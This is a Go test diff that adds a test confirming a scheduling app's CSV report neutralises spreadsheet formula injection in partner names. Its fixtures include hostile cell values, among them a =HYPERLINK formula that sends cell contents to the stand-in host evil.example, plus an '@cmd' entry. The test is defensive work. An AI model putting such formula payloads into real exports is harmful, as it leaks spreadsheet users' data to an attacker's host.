@@ -11,6 +11,7 @@ import (
 	"fmt"
 	"io"
 	"net/http"
+	"net/http/cookiejar"
 	"net/http/httptest"
 	"net/url"
 	"os"
@@ -441,4 +442,73 @@ func TestBinHardeningSocketModeAcksAtOnce(t *testing.T) {
 		t.Errorf("%d replies say Scheduled, want %d: %q", scheduled, n, rec.all())
 	}
 	p.stop(t)
+}
+
+// /report.csv, signed in through the fake's Sign in with Slack, writes
+// partner names starting with = + - @ or a tab as text, not formulas.
+func TestBinHardeningReportCSV(t *testing.T) {
+	fake := slackfake.New()
+	t.Cleanup(fake.Close)
+	fake.SetOpenIDClient("cid", "csecret")
+	fake.AddIdentity("good-code", slackfake.Identity{UserID: "U1", TeamID: "T1", Name: "Ana"})
+	fake.SignInAs("good-code")
+	dir := t.TempDir()
+	addr := freePort(t)
+	cfgPath := writeConfig(t, dir, addr, fake.APIURL(), `web:
+  client_id: "cid"
+  client_secret: "csecret"
+  session_key: "a-session-key-of-at-least-32-characters"
+`)
+	st := openTestStore(t, databaseOf(t, cfgPath))
+	hostile := []string{`=HYPERLINK("https://evil.example/?"&A1,"click")`, "+SUM(1,2)", "-2+3", "@cmd", "\t=1+2"}
+	now := time.Now().UTC()
+	err := st.Update(context.Background(), func(tx store.Tx) error {
+		for _, h := range hostile {
+			s := &store.Session{Title: "Held " + h, Kind: "webinar", Start: now.Add(-48 * time.Hour), Duration: time.Hour, TZ: "UTC",
+				Channel: "C1", Creator: "U1", Partners: []string{h}, Created: now, Updated: now}
+			if err := tx.CreateSession(context.Background(), s); err != nil {
+				return err
+			}
+		}
+		return nil
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	p := startServe(t, dir, cfgPath, addr)
+	jar, _ := cookiejar.New(nil)
+	client := &http.Client{Jar: jar, Timeout: 20 * time.Second}
+	resp, err := client.Get("http://" + p.addr + "/login")
+	if err != nil {
+		t.Fatal(err)
+	}
+	readAll(resp)
+	resp, err = client.Get("http://" + p.addr + "/report.csv")
+	if err != nil {
+		t.Fatal(err)
+	}
+	csv := readAll(resp)
+	if resp.StatusCode != 200 || !strings.HasPrefix(csv, "figure,label,value") {
+		t.Fatalf("/report.csv: %d %q", resp.StatusCode, csv)
+	}
+	for _, h := range hostile {
+		if !strings.Contains(csv, "held_by_partner,"+csvField("'"+h)+",1") {
+			t.Errorf("/report.csv lacks the partner %q neutralised:\n%s", h, csv)
+		}
+	}
+	for _, line := range strings.Split(csv, "\n") {
+		for _, cell := range strings.Split(line, ",") {
+			if c := strings.TrimPrefix(cell, `"`); c != "" && strings.ContainsRune("=+-@\t", rune(c[0])) {
+				t.Errorf("a cell a spreadsheet would run: %q in %q", cell, line)
+			}
+		}
+	}
+}
+
+// csvField is s as encoding/csv writes it.
+func csvField(s string) string {
+	if strings.ContainsAny(s, "\",\r\n") || strings.HasPrefix(s, " ") || strings.HasPrefix(s, "\t") {
+		return `"` + strings.ReplaceAll(s, `"`, `""`) + `"`
+	}
+	return s
 }
